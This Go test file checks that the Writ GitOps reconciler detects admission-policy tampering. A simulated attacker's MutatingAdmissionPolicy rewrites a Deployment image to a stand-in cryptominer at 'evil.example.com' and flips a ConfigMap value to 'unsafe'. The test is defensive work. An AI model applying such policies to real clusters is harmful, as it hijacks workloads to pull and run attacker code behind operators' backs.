package apply_test

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"writ.dev/writ/reconcile/apply"
	"writ.dev/writ/test/harness"
	"writ.dev/writ/wellknown"
)

// agentUser is the identity the attacker's policy singles out: the GitOps agent's.
const agentUser = "system:serviceaccount:writ-system:writ-reconciler"

// mutateForAgent installs, as a cluster-admin would, a MutatingAdmissionPolicy that rewrites
// the agent's writes of kind resource in namespace with patch (a JSONPatch expression), and waits
// until the apiserver applies it. It is removed when the test ends.
func mutateForAgent(t *testing.T, ctx context.Context, name, namespace, group, resource, patch string, probe client.Object, mutated func(client.Object) bool) {
	t.Helper()
	policy := &admissionregistrationv1.MutatingAdmissionPolicy{ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: admissionregistrationv1.MutatingAdmissionPolicySpec{
			MatchConstraints: &admissionregistrationv1.MatchResources{ResourceRules: []admissionregistrationv1.NamedRuleWithOperations{{
				RuleWithOperations: admissionregistrationv1.RuleWithOperations{
					Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
					Rule:       admissionregistrationv1.Rule{APIGroups: []string{group}, APIVersions: []string{"*"}, Resources: []string{resource}},
				}}}},
			MatchConditions: []admissionregistrationv1.MatchCondition{{Name: "agent", Expression: `request.userInfo.username == "` + agentUser + `"`}},
			Mutations: []admissionregistrationv1.Mutation{{PatchType: admissionregistrationv1.PatchTypeJSONPatch,
				JSONPatch: &admissionregistrationv1.JSONPatch{Expression: patch}}},
			ReinvocationPolicy: admissionregistrationv1.NeverReinvocationPolicy,
		}}
	binding := &admissionregistrationv1.MutatingAdmissionPolicyBinding{ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: admissionregistrationv1.MutatingAdmissionPolicyBindingSpec{PolicyName: name, MatchResources: &admissionregistrationv1.MatchResources{
			NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"kubernetes.io/metadata.name": namespace}}}}}
	for _, o := range []client.Object{policy, binding} {
		if err := env.Client.Create(ctx, o); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = env.Client.Delete(context.Background(), o) })
	}
	agent, err := env.ClientAs(agentUser)
	if err != nil {
		t.Fatal(err)
	}
	harness.Eventually(t, "the attacker's policy in force", 30*time.Second, func() (bool, string) {
		p := probe.DeepCopyObject().(client.Object)
		err := agent.Create(ctx, p, client.DryRunAll)
		return err == nil && mutated(p), "dry-run create as the agent: " + errString(err)
	})
}

func errString(err error) string {
	if err == nil {
		return "ok"
	}
	return err.Error()
}

// TestDriftSeesThroughAdmissionMutations is issue 12's blinded heal: a cluster-admin's
// MutatingAdmissionPolicy rewrites the agent's next heal of a Deployment to an attacker's image
// (and a ConfigMap's value). A server-side dry-run of Git's version is mutated the same way, so
// it "matches Git"; Writ compares what the apiserver stores with what Git declares, so the drift
// is reported, and an apply whose result the apiserver changed fails, naming the field.
func TestDriftSeesThroughAdmissionMutations(t *testing.T) {
	harness.Require(t, env)
	ctx := context.Background()
	const ns = "mutated"
	if err := env.EnsureNamespace(ctx, ns); err != nil {
		t.Fatal(err)
	}
	if err := env.Grant(ctx, harness.User(agentUser), "cluster-admin"); err != nil {
		t.Fatal(err)
	}
	agent, err := env.ClientAs(agentUser)
	if err != nil {
		t.Fatal(err)
	}
	e := apply.New(agent)
	e.Memo = apply.NewMemo()
	stamp := apply.Stamp{SyncNamespace: "writ-system", SyncName: "mutated", Commit: "c1"}
	deploy := `apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: mutated}
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      containers:
      - {name: web, image: "nginx:1.27", resources: {limits: {cpu: 1000m}}}`
	config := func(extra string) string {
		return "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: cfg, namespace: mutated}\ndata: {mode: safe" + extra + "}"
	}
	git := func(extra string) []*unstructured.Unstructured { return objects(t, deploy, config(extra)) }
	res, err := e.Apply(ctx, git(""), stamp, nil, false)
	if err != nil {
		t.Fatalf("first apply: %v", err)
	}
	if d, err := e.Drift(ctx, git(""), stamp); err != nil || len(d) != 0 {
		t.Fatalf("right after the apply (cpu 1000m stored as 1): drift %+v, %v", d, err)
	}

	mutateForAgent(t, ctx, "evil-image", ns, "apps", "deployments",
		`[JSONPatch{op: "replace", path: "/spec/template/spec/containers/0/image", value: "evil.example.com/miner:latest"}]`,
		&appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "probe"}, Spec: appsv1.DeploymentSpec{
			Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "p"}},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "p"}},
				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "p", Image: "nginx"}}}}}},
		func(o client.Object) bool {
			return o.(*appsv1.Deployment).Spec.Template.Spec.Containers[0].Image != "nginx"
		})
	// A human's out-of-band edit makes the agent heal the Deployment.
	var d appsv1.Deployment
	if err := env.Client.Get(ctx, client.ObjectKey{Namespace: ns, Name: "web"}, &d); err != nil {
		t.Fatal(err)
	}
	d.Spec.Template.Spec.Containers[0].Image = "nginx:1.26"
	if err := env.Client.Update(ctx, &d, client.FieldOwner("kubectl-edit")); err != nil {
		t.Fatal(err)
	}
	image := ".spec.template.spec.containers[name=web].image"
	drifts, err := e.Drift(ctx, git(""), stamp)
	if err != nil || len(drifts) != 1 || drifts[0].Name != "web" || strings.Join(drifts[0].Fields, ",") != image {
		t.Fatalf("the edit: drift %+v, %v", drifts, err)
	}
	// The heal is rewritten by the attacker's policy: Apply fails, naming the field and the cause.
	_, err = e.Apply(ctx, objects(t, deploy), stamp, nil, false)
	var mutated *apply.MutatedError
	if !errors.As(err, &mutated) || len(mutated.Drifts) != 1 || !mutated.Drifts[0].Mutated || mutated.Drifts[0].Fields[0] != image ||
		!strings.Contains(err.Error(), "admission mutation") || !strings.Contains(err.Error(), "Deployment.apps mutated/web") {
		t.Fatalf("the mutated heal: %v", err)
	}
	if err := env.Client.Get(ctx, client.ObjectKey{Namespace: ns, Name: "web"}, &d); err != nil || d.Spec.Template.Spec.Containers[0].Image != "evil.example.com/miner:latest" {
		t.Fatalf("the attacker's policy did not rewrite the heal (%v): the test proves nothing", err)
	}
	// The server-side dry-run the drift check used to rely on sees no change at all...
	dry := objects(t, deploy)[0]
	dry.SetLabels(map[string]string{wellknown.ManagedLabel: "writ-system.mutated"})
	dry.SetAnnotations(map[string]string{wellknown.CommitAnnotation: "c1"})
	if err := agent.Patch(ctx, dry, client.Apply, client.FieldOwner(wellknown.FieldManager), client.ForceOwnership, client.DryRunAll); err != nil {
		t.Fatal(err)
	}
	if got, _, _ := unstructured.NestedSlice(dry.Object, "spec", "template", "spec", "containers"); got[0].(map[string]any)["image"] != "evil.example.com/miner:latest" {
		t.Fatalf("the dry-run was not mutated: %v", got)
	}
	// ...while Writ's drift check reports the attacker's image, every time.
	for range 2 {
		drifts, err = e.Drift(ctx, git(""), stamp)
		if err != nil || len(drifts) != 1 || drifts[0].Fields[0] != image {
			t.Fatalf("after the mutated heal: drift %+v, %v: want the image reported, not \"matches Git\"", drifts, err)
		}
	}

	// A ConfigMap's value rewritten on a new commit's apply: the apply fails too.
	mutateForAgent(t, ctx, "evil-config", ns, "", "configmaps", `[JSONPatch{op: "replace", path: "/data/mode", value: "unsafe"}]`,
		&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "probe"}, Data: map[string]string{"mode": "safe"}},
		func(o client.Object) bool { return o.(*corev1.ConfigMap).Data["mode"] == "unsafe" })
	stamp.Commit = "c2"
	_, err = e.Apply(ctx, objects(t, config(", extra: x")), stamp, res.Inventory, false)
	if !errors.As(err, &mutated) || len(mutated.Drifts) != 1 || mutated.Drifts[0].Kind != "ConfigMap" || strings.Join(mutated.Drifts[0].Fields, ",") != ".data.mode" {
		t.Fatalf("the mutated ConfigMap: %v", err)
	}
}
